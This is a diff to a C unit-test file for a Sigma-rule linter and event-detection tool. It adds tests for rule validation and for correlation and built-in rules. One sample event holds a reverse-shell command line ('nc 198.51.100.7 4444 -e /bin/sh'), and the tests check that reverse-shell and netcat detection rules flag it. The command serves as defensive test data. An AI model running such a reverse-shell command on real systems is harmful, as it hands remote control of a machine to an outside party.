@@ -102,17 +102,40 @@ START_TEST(rules_are_told_whether_they_are_understood)
     char inner[300];
     snprintf(inner, sizeof inner, "%s/lint", folder);
     ck_assert_int_eq(mkdir(inner, 0700), 0);
-    file("lint/a.yml", shell);
+    file("lint/a.yml", "title: A\nid: a-1\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /telnetd\n  condition: s\n");
+    file("lint/e.yml", shell);
     ck_assert_int_eq(picket("rule", "lint", (const char *const[]){inner, NULL}), 0);
-    ck_assert_ptr_nonnull(strstr(output.bytes, "a.yml: 11111111-1111-4111-8111-111111111111: ok\n"));
+    ck_assert_ptr_nonnull(strstr(output.bytes, "a.yml: a-1: ok\n"));
+    ck_assert_ptr_nonnull(strstr(output.bytes, "e.yml: 11111111-1111-4111-8111-111111111111: it can never match: it asks for ParentImage"));
     file("lint/b.yml", "title: x\nid: b-1\nlogsource: {}\n");
     file("lint/c.yml", "title: x\nid: c-1\nlogsource: {}\ndetection:\n  s:\n    A: ab\n  condition: s\n");
     file("lint/d.yml", "title: [\n");
     ck_assert_int_eq(picket("rule", "lint", (const char *const[]){inner, "--json", NULL}), 1);
-    ck_assert_ptr_nonnull(strstr(output.bytes, "a.yml\",\"rule\":\"11111111-1111-4111-8111-111111111111\",\"ok\":true}\n"));
+    ck_assert_ptr_nonnull(strstr(output.bytes, "a.yml\",\"rule\":\"a-1\",\"ok\":true}\n"));
     ck_assert_ptr_nonnull(strstr(output.bytes, "b.yml\",\"rule\":\"b-1\",\"ok\":false,\"reason\":\"there is no detection\"}\n"));
-    ck_assert_ptr_nonnull(strstr(output.bytes, "c.yml\",\"rule\":\"c-1\",\"ok\":true,\"warnings\":[\"no text of three letters"));
+    ck_assert_ptr_nonnull(strstr(output.bytes, "c.yml\",\"rule\":\"c-1\",\"ok\":true,\"warnings\":[\"it can never match: no events are mapped"));
+    ck_assert_ptr_nonnull(strstr(output.bytes, "\"no text of three letters"));
     ck_assert_ptr_nonnull(strstr(output.bytes, "d.yml\",\"rule\":null,\"ok\":false,\"reason\":\"no YAML"));
+}
+END_TEST
+
+/* As GET /v1/events answers; the very engine of the stream. */
+START_TEST(pickets_own_events_are_judged_by_sigma_by_correlations_and_by_what_is_built_in)
+{
+    const char *seen = file("own.ndjson",
+                            "{\"event_id\":\"p1\",\"name\":\"ProcessCreate\",\"device\":\"d\",\"time_stamp\":\"2026-01-01T00:00:00Z\",\"details\":{\"Executable\":\"/bin/nc\",\"CommandLine\":\"nc 198.51.100.7 4444 -e /bin/sh\"}}\n"
+                            "{\"name\":\"Process\",\"device\":\"d\",\"time_stamp\":\"2026-01-01T00:00:10Z\",\"details\":{\"Executable\":\"/bin/nc\",\"Commandline\":\"nc -l 80\",\"EventType\":\"EXEC\"}}\n"
+                            "{\"name\":\"ConnectionCreate\",\"device\":\"d\",\"details\":{\"RemoteAddress\":\"198.51.100.7\"}}\n");
+    const char *rules = file("own.yml", "title: nc\nid: n-1\nname: nc\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /nc\n  condition: s\n---\n"
+                                        "title: twice\nid: c-1\ncorrelation:\n  type: event_count\n  rules: [nc]\n  timespan: 1m\n  generate: true\n  condition: {gte: 2}\n---\n"
+                                        "title: alone\nid: c-2\ncorrelation:\n  type: temporal\n  rules: [nobody]\n  timespan: 1m\n");
+
+    ck_assert_int_eq(rule_test((const char *const[]){"--rules", rules, "--events", seen, "--built-in", "--json", NULL}), 0);
+    ck_assert_ptr_nonnull(strstr(output.bytes, "{\"event\":\"p1\",\"rule\":\"IoT_ReverseShell\",\"matched\":[{\"field\":\"CommandLine\""));
+    ck_assert_ptr_nonnull(strstr(output.bytes, "{\"event\":\"p1\",\"rule\":\"n-1\",\"matched\":[{\"field\":\"Image\",\"clause\":\"Image ends with '/nc'\"}]}"));
+    ck_assert_ptr_nonnull(strstr(output.bytes, "{\"event\":2,\"rule\":\"c-1\""));
+    ck_assert_ptr_nonnull(strstr(output.bytes, "own.yml: c-2: it names the rule nobody, which is not there\n"));
+    ck_assert_ptr_null(strstr(output.bytes, "\"event\":3"));
 }
 END_TEST
 
@@ -180,6 +203,7 @@ int main(void)
         each_match_is_a_line_that_says_why,
         folders_are_read_to_their_last_file_and_refusals_told,
         rules_are_told_whether_they_are_understood,
+        pickets_own_events_are_judged_by_sigma_by_correlations_and_by_what_is_built_in,
         what_is_asked_wrong_is_said,
         observations_are_told_which_feed_lists_them,
         known_answers_are_met,
